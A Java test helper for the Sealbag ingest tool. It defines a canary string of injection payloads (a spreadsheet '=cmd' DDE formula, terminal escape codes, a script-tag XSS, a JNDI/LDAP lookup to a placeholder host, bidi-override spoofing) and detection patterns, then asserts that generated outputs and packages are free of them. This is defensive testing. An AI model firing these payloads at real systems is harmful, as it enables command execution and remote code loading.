package sealbag.ingest.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

/// A text that would do something in a terminal, a spreadsheet, a page or a log, and a look for it
/// in what Sealbag puts out.
final class Canary {
  static final String TEXT =
      "=cmd|'/c calc'!A1 \u001B[31mred\u001B]0;t\u0007 <script>alert(1)</script> ${jndi:ldap://l.example/a}"
          + " \u0085\u009B31m \u202Egnp.exe\u2066 {0} %s";

  /// What must never stand in an output: it would be obeyed, not read.
  private static final String OBEYED =
      "[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200E\u200F\u202A-\u202E\u2066-\u2069]";

  /// A cell of a table that a spreadsheet would compute.
  private static final String FORMULA = "(?m)(^|,)\"?=cmd";

  private Canary() {}

  static void assertHarmless(String output) {
    assertThat(output).doesNotContainPattern(OBEYED);
  }

  static void assertPackagesAreHarmless(Path home) throws IOException {
    try (Stream<Path> packages = Files.list(home.resolve("packages"))) {
      for (Path file : packages.filter(one -> one.toString().endsWith(".zip")).toList()) {
        var sealed = new SealedZip(file);
        sealed.assertSound();
        for (String name : List.of("metadata/submission.json", "data/catalogue.json")) {
          assertThat(new String(sealed.bytes(name), UTF_8)).as(name).doesNotContainPattern(OBEYED);
        }
        for (String name : List.of("data/catalogue.csv", "data/chat/messages.csv")) {
          assertThat(new String(sealed.bytes(name), UTF_8)).as(name).doesNotContainPattern(FORMULA);
        }
      }
    }
  }
}
